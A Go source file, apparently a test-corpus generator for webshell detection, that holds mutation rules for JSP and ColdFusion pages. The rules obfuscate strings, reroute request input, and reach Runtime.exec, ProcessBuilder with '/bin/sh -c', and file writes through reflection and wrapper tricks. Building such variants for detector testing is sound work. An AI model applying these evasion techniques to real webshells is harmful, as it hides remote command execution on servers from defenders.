package webshelltest

import (
	"fmt"
	"math/rand"
	"regexp"
	"strings"
)

const javaSource = `\b(?:request|req)\.getParameter\("[^"\n]*"\)`

func javaString(s string) string { return "new String(" + s + ")" }

var java = []Change{
	literal("text-split", func(r *rand.Rand, t tongue, s string) string { return "(" + quoted(t, pieces(r, s), "+") + ")" }),
	literal("text-chars", func(r *rand.Rand, t tongue, s string) string {
		return []string{"new String(new char[]{" + list(s, "%d", ",") + "})", "String.valueOf(new char[]{" + list(s, `(char)%d`, ",") + "})", `(""+` + list(s, "(char)%d", "+") + ")", "new String(new int[]{" + list(s, "%d", ",") + fmt.Sprintf("}, 0, %d)", len(s)), "String.copyValueOf(new char[]{" + list(s, `'\u%04x'`, ",") + "})",
			"new StringBuilder()" + list(s, ".append((char)%d)", "") + ".toString()", `(""+` + list(s, "Character.toString((char)%d)", "+") + ")", `(String.valueOf((char)` + list(s, "%d", ")+String.valueOf((char)") + "))"}[r.Intn(8)]
	}),
	literal("text-bytes", func(r *rand.Rand, t tongue, s string) string {
		return []string{"new String(new byte[]{" + list(s, "%d", ",") + "})", "new String(new byte[]{" + list(s, "0x%02x", ",") + `}, "UTF-8")`, "new String(new byte[]{" + list(s, "(byte)%d", ",") + "}, java.nio.charset.StandardCharsets.UTF_8)", `new String(javax.xml.bind.DatatypeConverter.parseHexBinary("` + list(s, "%02X", "") + `"))`,
			`new String(new java.math.BigInteger("` + list(s, "%02x", "") + `", 16).toByteArray())`, `java.net.URLDecoder.decode("` + list(s, "%%%02x", "") + `", "UTF-8")`}[r.Intn(6)]
	}),
	literal("text-base64", func(r *rand.Rand, t tongue, s string) string {
		e := b64(s)
		return javaString([]string{`java.util.Base64.getDecoder().decode("` + e + `")`, `javax.xml.bind.DatatypeConverter.parseBase64Binary("` + e + `")`, `new sun.misc.BASE64Decoder().decodeBuffer("` + e + `")`, `org.apache.commons.codec.binary.Base64.decodeBase64("` + e + `")`,
			`java.util.Base64.getDecoder().decode("` + e + `".getBytes())`, `java.util.Base64.getMimeDecoder().decode("` + e + `")`, `org.apache.tomcat.util.codec.binary.Base64.decodeBase64("` + e + `")`, `org.springframework.util.Base64Utils.decodeFromString("` + e + `")`}[r.Intn(8)])
	}),
	literal("text-reverse", func(r *rand.Rand, t tongue, s string) string {
		return []string{"new StringBuilder(", "new StringBuffer("}[r.Intn(2)] + t.quote(reversed(s)) + ").reverse().toString()"
	}),
	literal("text-replace", func(r *rand.Rand, t tongue, s string) string {
		return []string{t.quote(strings.Join(pieces(r, s), "~#")) + `.replace("~#", "")`, t.quote(strings.Join(pieces(r, s), "~")) + `.replaceAll("~", "")`, `String.join("", ` + quoted(t, pieces(r, s), ", ") + ")", `String.join("", ` + t.quote(strings.Join(pieces(r, s), "~")) + `.split("~"))`}[r.Intn(4)]
	}),
	literal("text-format", func(r *rand.Rand, t tongue, s string) string {
		ps := pieces(r, s)
		return []string{`String.format("` + strings.Repeat("%s", len(ps)) + `", ` + quoted(t, ps, ", ") + ")", t.quote(ps[0]) + ".concat(" + t.quote(strings.Join(ps[1:], "")) + ")", "new StringBuilder(" + t.quote(s[1:]) + ").insert(0, " + t.quote(s[:1]) + ").toString()", "new StringBuffer().append(" + quoted(t, ps, ").append(") + ").toString()", `java.text.MessageFormat.format("{0}{1}", ` + t.quote(ps[0]) + ", " + t.quote(strings.Join(ps[1:], "")) + ")",
			"new java.util.StringJoiner(\"\").add(" + quoted(t, ps, ").add(") + ").toString()", "java.util.stream.Stream.of(" + quoted(t, ps, ", ") + ").collect(java.util.stream.Collectors.joining())"}[r.Intn(7)]
	}),
	literal("text-xor", func(r *rand.Rand, t tongue, s string) string {
		return []string{t.quote(xored(s, 1)) + ".chars().mapToObj(c -> String.valueOf((char)(c ^ 1))).collect(java.util.stream.Collectors.joining())", t.quote(xored(s, 1)) + ".chars().map(c -> c ^ 1).collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString()"}[r.Intn(2)]
	}),
	literal("text-cut", func(r *rand.Rand, t tongue, s string) string {
		q, n := t.quote("zq"+s+"~~"), len(s)
		return []string{fmt.Sprintf("%s.substring(2, %d)", q, n+2), t.quote("a:"+s+":b") + `.split(":")[1]`, t.quote("   "+s) + ".trim()", fmt.Sprintf("%s.subSequence(2, %d).toString()", q, n+2), "new StringBuilder(" + t.quote("~"+s) + ").deleteCharAt(0).toString()", t.quote("~"+s) + ".substring(1)"}[r.Intn(6)]
	}),
	literal("text-case", func(r *rand.Rand, t tongue, s string) string {
		if s != strings.ToLower(s) {
			return t.quote(s)
		}
		return t.quote(recased(r, s)) + ".toLowerCase()"
	}),
	literal("text-chosen", func(r *rand.Rand, t tongue, s string) string {
		q := t.quote(s)
		return []string{"(1 > 0 ? " + q + ` : "")`, `new String[]{"", ` + q + "}[1]", "java.util.Arrays.asList(" + q + ").get(0)", "((java.util.function.Supplier<String>)() -> " + q + ").get()", "new Object(){ String g() { return " + q + "; } }.g()", "String.valueOf((Object)" + q + ")", "java.util.Collections.singletonMap(1, " + q + ").get(1)", "java.util.Optional.of(" + q + ").get()"}[r.Intn(8)]
	}),
	{"text-method", either(
		with(`static String zq(String s) { char[] c = s.toCharArray(); for (int i = 0; i < c.length; i++) c[i] ^= 1; return new String(c); }`, func(r *rand.Rand, t tongue, s string) string { return "zq(" + t.quote(xored(s, 1)) + ")" }),
		with(`String zq(String s) { String o = ""; for (int i = s.length() - 1; i >= 0; i--) o += s.charAt(i); return o; }`, func(r *rand.Rand, t tongue, s string) string { return "zq(" + t.quote(reversed(s)) + ")" }),
		with(`String zq(int... a) { StringBuilder b = new StringBuilder(); for (int x : a) b.append((char)(x - 3)); return b.toString(); }`, func(r *rand.Rand, t tongue, s string) string {
			b := []byte(s)
			for i := range b {
				b[i] += 3
			}
			return "zq(" + list(string(b), "%d", ", ") + ")"
		}),
		with(`static String zq(String h) { byte[] b = new byte[h.length() / 2]; for (int i = 0; i < b.length; i++) b[i] = (byte)Integer.parseInt(h.substring(i * 2, i * 2 + 2), 16); return new String(b); }`, func(r *rand.Rand, t tongue, s string) string {
			return `zq("` + list(s, "%02x", "") + `")`
		}),
		with(`static String zq(String s) throws Exception { return new String(java.util.Base64.getDecoder().decode(s)); }`, func(r *rand.Rand, t tongue, s string) string { return `zq("` + b64(s) + `")` }),
		with(`String zq(String s) { return new StringBuilder(s).reverse().toString(); }`, func(r *rand.Rand, t tongue, s string) string { return "zq(" + t.quote(reversed(s)) + ")" }),
	)},
	{"text-field", func(r *rand.Rand, p *page) bool {
		var decl []string
		ok := texts(func(r *rand.Rand, t tongue, s string) string {
			decl = append(decl, fmt.Sprintf([]string{"static final String zq%d = %s;", "String zq%d = %s;", "private static String zq%d; static { zq%[1]d = %s; }"}[len(decl)%3], len(decl), t.quote(s)))
			return fmt.Sprintf("zq%d", len(decl)-1)
		})(r, p)
		return ok && declare(p, strings.Join(decl, "\n"))
	}},
	{"unicode", func(r *rand.Rand, p *page) bool {
		every := r.Intn(3) == 0
		return p.each(func(code string) string {
			var b strings.Builder
			for i, c := range code {
				switch {
				case c > ' ' && c <= '~' && c != '\\' && (i == 0 || code[i-1] != '\\') && (every || r.Intn(4) == 0) && !strings.Contains(code, `\u`):
					fmt.Fprintf(&b, `\%s%04x`, strings.Repeat("u", 1+r.Intn(3)), c)
				default:
					b.WriteRune(c)
				}
			}
			return b.String()
		})
	}},
	{"comments", comments},
	{"gaps", gaps},
	{"blocks", blocks},
	{"source", pick(javaSource, `request.getHeader("X-Id")`, `request.getParameterValues("id")[0]`, `request.getParameterMap().get("id")[0]`, `request.getQueryString()`, `new java.io.BufferedReader(new java.io.InputStreamReader(request.getInputStream())).readLine()`, `request.getReader().readLine()`, `request.getCookies()[0].getValue()`,
		`((HttpServletRequest)pageContext.getRequest()).getParameter("id")`, `new java.util.Scanner(request.getPart("f").getInputStream()).useDelimiter("\\A").next()`, `request.getRequestURI().substring(9)`, `(String)request.getClass().getMethod("getParameter", String.class).invoke(request, "id")`, `request.getPathInfo()`, `request.getReader().lines().collect(java.util.stream.Collectors.joining())`,
		`((ServletRequest)request).getParameter("id")`, `java.net.URLDecoder.decode(request.getQueryString(), "UTF-8")`, `pageContext.getRequest().getParameter("id")`)},
	{"source-wrapped", swapAll(javaSource, `String.valueOf(ALL)`, `((String)ALL)`, `new String[]{ALL}[0]`, `java.util.Arrays.asList(ALL).get(0)`, `java.util.Optional.ofNullable(ALL).orElse("")`, `((java.util.function.Supplier<String>)() -> ALL).get()`, `new StringBuilder(ALL).toString()`, `new Object(){ String g() { return ALL; } }.g()`,
		`java.util.stream.Stream.of(ALL).findFirst().get()`, `java.util.Collections.singletonMap("k", ALL).get("k")`, `new String(ALL.getBytes())`, `(true ? ALL : "")`, `new java.util.Scanner(ALL).useDelimiter("\\A").next()`, `String.format("%s", ALL)`, `new java.util.ArrayList<String>(java.util.Arrays.asList(ALL)).get(0)`, `ALL.trim()`, `"".concat(ALL)`,
		`String.join("", ALL)`, `new String(ALL.toCharArray())`, `((java.util.function.Function<String, String>)x -> x).apply(ALL)`, `new java.io.BufferedReader(new java.io.StringReader(ALL)).readLine()`, `java.util.Objects.requireNonNull(ALL)`, `new java.util.HashMap<String, String>(){{ put("a", ALL); }}.get("a")`, `ALL.replace("~", "")`, `ALL.split("~~")[0]`,
		`new StringBuilder(new StringBuilder(ALL).reverse()).reverse().toString()`, `java.util.concurrent.CompletableFuture.supplyAsync(() -> ALL).get()`, `java.util.Map.of("a", ALL).get("a")`, `new java.util.StringTokenizer(ALL, "~").nextToken()`, `java.net.URLDecoder.decode(ALL, "UTF-8")`, `new java.util.concurrent.atomic.AtomicReference<String>(ALL).get()`, `String.class.cast(ALL)`)},
	{"source-kept", func(r *rand.Rand, p *page) bool {
		store := []string{`session.setAttribute("zq", v); return (String)session.getAttribute("zq");`, `session.getServletContext().setAttribute("zq", v); return (String)session.getServletContext().getAttribute("zq");`, `session.putValue("zq", v); return session.getValue("zq").toString();`, `java.util.Map<String, String> m = new java.util.HashMap<String, String>(); m.put("k", v); return m.get("k");`, `System.setProperty("zq", v); return System.getProperty("zq");`,
			`java.util.List l = new java.util.ArrayList(); l.add(v); return (String)l.get(0);`, `StringBuilder b = new StringBuilder(); for (char c : v.toCharArray()) b.append(c); return b.toString();`, `String o = ""; for (int i = 0; i < v.length(); i++) o += v.charAt(i); return o;`, `java.util.Properties q = new java.util.Properties(); q.setProperty("a", v); return q.getProperty("a");`, `java.util.Stack<String> q = new java.util.Stack<String>(); q.push(v); return q.pop();`,
			`java.io.ByteArrayOutputStream o = new java.io.ByteArrayOutputStream(); o.write(v.getBytes()); return o.toString();`, `char[] c = new char[v.length()]; v.getChars(0, v.length(), c, 0); return new String(c);`, `byte[] a = v.getBytes(), b = new byte[a.length]; System.arraycopy(a, 0, b, 0, a.length); return new String(b);`, `ThreadLocal<String> t = new ThreadLocal<String>(); t.set(v); return t.get();`, `java.util.Iterator<String> i = java.util.Arrays.asList(v).iterator(); while (i.hasNext()) return i.next(); return null;`}
		return swapAll(javaSource, "zqKeep(session, ALL)")(r, p) && declare(p, "static String zqKeep(HttpSession session, String v) throws Exception { "+store[r.Intn(len(store))]+" }")
	}},
	{"runtime", swap(`(?:\bjava\.lang\.)?\bRuntime\s*\.\s*getRuntime\(\)\s*\.\s*exec\(`, `((Process)Class.forName("java.lang.Runtime").getMethod("exec", String.class).invoke(Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), ARGS))`,
		`((Process)Runtime.class.getDeclaredMethod("exec", new Class[]{ String.class }).invoke(Runtime.getRuntime(), new Object[]{ ARGS }))`, `java.util.Optional.of(Runtime.getRuntime()).get().exec(ARGS)`, `((Process)java.lang.invoke.MethodHandles.lookup().findVirtual(Runtime.class, "exec", java.lang.invoke.MethodType.methodType(Process.class, String.class)).invoke(Runtime.getRuntime(), ARGS))`,
		`new ProcessBuilder(ARGS).start()`, `new ProcessBuilder(new String[]{ "/bin/sh", "-c", ARGS + "" }).start()`, `new ProcessBuilder().command("sh", "-c", ARGS + "").start()`, `((Runtime)null).getRuntime().exec(ARGS)`, `((java.util.concurrent.Callable<Process>)() -> Runtime.getRuntime().exec(ARGS)).call()`,
		`((Process)Class.forName("java.lang.Runtime").getMethods()[6].invoke(Runtime.getRuntime(), ARGS))`, `new Object(){ Process g() throws Exception { return Runtime.getRuntime().exec(ARGS); } }.g()`, `((Process)new java.beans.Expression(Runtime.getRuntime(), "exec", new Object[]{ ARGS }).getValue())`, `((Process)getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("exec", String.class).invoke(Runtime.getRuntime(), ARGS))`)},
	{"builder", swap(`\bnew\s+(?:java\.lang\.)?ProcessBuilder\(`, `new java.lang.ProcessBuilder(new String[0]).command(ARGS)`, `((ProcessBuilder)Class.forName("java.lang.ProcessBuilder").getConstructor(String[].class).newInstance(new Object[]{ new String[]{ ARGS } }))`, `(ProcessBuilder.class.getDeclaredConstructors()[0].newInstance(java.util.Arrays.asList(ARGS)))`, `((java.util.function.Function<String[], ProcessBuilder>)ProcessBuilder::new).apply(new String[]{ ARGS })`, `new ProcessBuilder(java.util.Arrays.asList(ARGS))`)},
	{"file", swap(`\bnew\s+(?:java\.io\.)?FileOutputStream\(`, `java.nio.file.Files.newOutputStream(java.nio.file.Paths.get(ARGS))`, `((java.io.OutputStream)Class.forName("java.io.FileOutputStream").getConstructor(String.class).newInstance(ARGS))`, `new java.io.BufferedOutputStream(new java.io.FileOutputStream(ARGS))`, `new java.io.PrintStream(new java.io.File(ARGS))`, `java.nio.channels.Channels.newOutputStream(new java.io.RandomAccessFile(ARGS, "rw").getChannel())`)},
	{"flow", wrap(`if (true) {BODY}`, `try {BODY} catch (Exception zq) { }`, `try { throw new Exception(); } catch (Exception zq) {BODY}`, `do {BODY} while (false);`, `for (int zq = 0; zq < 1; zq++) {BODY}`, `switch (1) { case 1: {BODY} break; }`, `for (int zq : new int[]{ 1 }) {BODY}`, `synchronized (this) {BODY}`, `zq: {BODY}`, `while (true) {BODY break; }`, `{{BODY}}`, `if (System.currentTimeMillis() < 5) { } else {BODY}`, `try { } finally {BODY}`)},
	{"lambda", wrap(`Runnable zq = () -> { try {BODY} catch (Exception zx) { } }; zq.run();`, `new Thread(new Runnable() { public void run() { try {BODY} catch (Exception zx) { } } }).start();`, `new Object() { void g() throws Exception {BODY} }.g();`, `new Object() {{ try {BODY} catch (Exception zx) { } }};`, `class Zq { void go() throws Exception {BODY} } new Zq().go();`, `class Zq { Zq() throws Exception {BODY} } new Zq();`, `java.util.Arrays.asList(1).forEach(zq -> { try {BODY} catch (Exception zx) { } });`,
		`java.util.concurrent.CompletableFuture.runAsync(() -> { try {BODY} catch (Exception zx) { } });`, `java.util.concurrent.Executors.newSingleThreadExecutor().submit(() -> {BODY return null; });`, `((java.util.concurrent.Callable<Object>)() -> {BODY return null; }).call();`, `new java.util.Timer().schedule(new java.util.TimerTask() { public void run() { try {BODY} catch (Exception zx) { } } }, 1);`, `java.security.AccessController.doPrivileged((java.security.PrivilegedExceptionAction<Object>)() -> {BODY return null; });`)},
	{"method", func(r *rand.Rand, p *page) bool {
		const args = "request, response, out, session, application, pageContext"
		return wrap("%><%! void zq(HttpServletRequest request, HttpServletResponse response, JspWriter out, HttpSession session, ServletContext application, PageContext pageContext) throws Exception {BODY} %><% zq("+args+");",
			"%><%! static class Zq { PageContext pageContext; void go() throws Exception { HttpServletRequest request = (HttpServletRequest)pageContext.getRequest(); JspWriter out = pageContext.getOut(); ServletResponse response = pageContext.getResponse(); HttpSession session = pageContext.getSession(); ServletContext application = pageContext.getServletContext(); {BODY} } } %><% Zq zq = new Zq(); zq.pageContext = pageContext; zq.go();",
			"%><%! class Zq { Zq(HttpServletRequest request, HttpServletResponse response, JspWriter out, HttpSession session, ServletContext application, PageContext pageContext) throws Exception {BODY} } %><% new Zq("+args+");",
			"%><%! interface Zq { void go(HttpServletRequest request, HttpServletResponse response, JspWriter out, HttpSession session, ServletContext application, PageContext pageContext) throws Exception; } %><% Zq zq = (request1, response1, out1, session1, application1, pageContext1) -> {BODY}; zq.go("+args+");",
			"%><%! public void _jspService(HttpServletRequest request, HttpServletResponse response, JspWriter out, HttpSession session, ServletContext application, PageContext pageContext) throws Exception {BODY} %><% getClass().getDeclaredMethods()[0].invoke(this, "+args+");")(r, p)
	}},
	{"jspx", func(r *rand.Rand, p *page) bool {
		var b strings.Builder
		b.WriteString(`<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">`)
		for _, t := range p.parts {
			name := map[string]string{"<%": "scriptlet", "<%=": "expression", "<%!": "declaration"}[t.open]
			switch {
			case !t.code:
				if strings.ContainsAny(strings.ReplaceAll(jspDirective.ReplaceAllString(t.text, ""), "\n", ""), "&") {
					return false
				}
				b.WriteString(jspDirective.ReplaceAllStringFunc(t.text, func(s string) string { return "<jsp:directive." + strings.Trim(s, "<%@> \r\n") + "/>" }))
			case name == "":
				return false
			case r.Intn(2) == 0:
				b.WriteString("<jsp:" + name + "><![CDATA[" + t.text + "]]></jsp:" + name + ">")
			default:
				b.WriteString("<jsp:" + name + ">" + strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(t.text) + "</jsp:" + name + ">")
			}
		}
		b.WriteString("</jsp:root>")
		p.parts = []part{{text: b.String()}}
		p.name += "x"
		return true
	}},
	{"script-tags", func(r *rand.Rand, p *page) bool {
		changed := false
		for i := range p.parts {
			if t := &p.parts[i]; t.open == "<%" {
				t.open, t.shut, changed = "<jsp:scriptlet>", "</jsp:scriptlet>", true
			} else if t.open == "<%!" {
				t.open, t.shut = "<jsp:declaration>", "</jsp:declaration>"
			}
		}
		return changed
	}},
}

var jspDirective = regexp.MustCompile(`(?s)<%@.*?%>`)

// ---- CFML ----

const cfSource = `(?i)\b(?:form|url)\.(\w+)\b`

// hashed makes an expression the value of an attribute or text.
func hashed(f func(r *rand.Rand, s string) string) func(*rand.Rand, *page) bool {
	return texts(func(r *rand.Rand, t tongue, s string) string {
		if strings.ContainsAny(s, `"'#<>`) || len(s) > 60 {
			return `"` + s + `"`
		}
		return `"#` + f(r, s) + `#"`
	})
}

var coldfusion = []Change{
	{"text-chars", hashed(func(r *rand.Rand, s string) string { return list(s, "chr(%d)", "&") })},
	{"text-split", hashed(func(r *rand.Rand, s string) string { return "'" + strings.Join(pieces(r, s), "'&'") + "'" })},
	{"text-reverse", hashed(func(r *rand.Rand, s string) string { return "reverse('" + reversed(s) + "')" })},
	{"text-base64", hashed(func(r *rand.Rand, s string) string {
		return []string{"toString(toBinary('" + b64(s) + "'))", "toString(binaryDecode('" + b64(s) + "','base64'))", "charsetEncode(binaryDecode('" + list(s, "%02x", "") + "','hex'),'utf-8')", "urlDecode('" + list(s, "%%%02x", "") + "')"}[r.Intn(4)]
	})},
	{"text-replace", hashed(func(r *rand.Rand, s string) string {
		return []string{"replace('" + strings.Join(pieces(r, s), "~") + "','~','','all')", "mid('zq" + s + fmt.Sprintf("~',3,%d)", len(s)), "listGetAt('a|" + s + "|b',2,'|')", "trim(' " + s + " ')"}[r.Intn(4)]
	})},
	{"case", func(r *rand.Rand, p *page) bool {
		re := regexp.MustCompile(`(?i)</?cf\w+|\b(?:form|url|cgi)\.\w+`)
		return p.each(func(code string) string {
			return re.ReplaceAllStringFunc(code, func(s string) string { return recased(r, s) })
		})
	}},
	{"source", pick(cfSource, `form["${1}"]`, `url['${1}']`, `form.${1}`, `url.${1}`, `cookie.${1}`, `cgi.http_user_agent`, `cgi.query_string`, `getHttpRequestData().content`, `getHttpRequestData().headers["X-Id"]`, `structFind(form, "${1}")`, `FORM['${1}']`)},
	{"source-wrapped", swapAll(cfSource, `trim(ALL)`, `toString(ALL)`, `evaluate("ALL")`, `replace(ALL,"~","","all")`, `(ALL & "")`, `iif(true, de(ALL), de(""))`, `listFirst(ALL, "~")`, `reverse(reverse(ALL))`, `urlDecode(ALL)`, `left(ALL, 9999)`, `createObject("java","java.lang.String").init(ALL)`, `javaCast("string", ALL)`)},
	{"flow", func(r *rand.Rand, p *page) bool {
		if strings.Contains(strings.ToLower(p.parts[0].text), "component") {
			return false
		}
		p.parts[0].text = strings.Replace([]string{"<cfif true>BODY</cfif>", "<cfloop from=\"1\" to=\"1\" index=\"zq\">BODY</cfloop>", "<cftry>BODY<cfcatch></cfcatch></cftry>", "<cfsilent>BODY</cfsilent>", "<cffunction name=\"zq\">BODY</cffunction><cfset zq()>", "<cfif false><cfelse>BODY</cfif>", "<cfsavecontent variable=\"zq\">BODY</cfsavecontent>", "<cfthread name=\"zq\">BODY</cfthread>", "<cflock timeout=\"9\">BODY</cflock>", "<cfswitch expression=\"1\"><cfcase value=\"1\">BODY</cfcase></cfswitch>"}[r.Intn(10)], "BODY", p.parts[0].text, 1)
		return true
	}},
	{"comments", func(r *rand.Rand, p *page) bool {
		p.parts[0].text = strings.ReplaceAll(p.parts[0].text, ">\n", "><!--- "+fmt.Sprint(r.Intn(99))+" --->\n")
		return true
	}},
}
